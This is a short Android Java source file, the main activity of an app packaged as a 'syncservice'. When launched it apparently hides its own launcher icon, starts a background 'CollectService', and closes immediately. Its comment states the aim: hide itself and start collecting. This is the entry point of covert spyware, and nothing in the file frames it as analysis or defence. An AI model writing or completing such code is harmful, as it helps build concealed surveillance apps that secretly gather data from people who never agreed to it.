package com.example.syncservice;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;

/** The setup screen: hides itself and starts collecting. */
public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    new IconSwitch(this).off();
    startService(new Intent(this, CollectService.class));
    finish();
  }
}
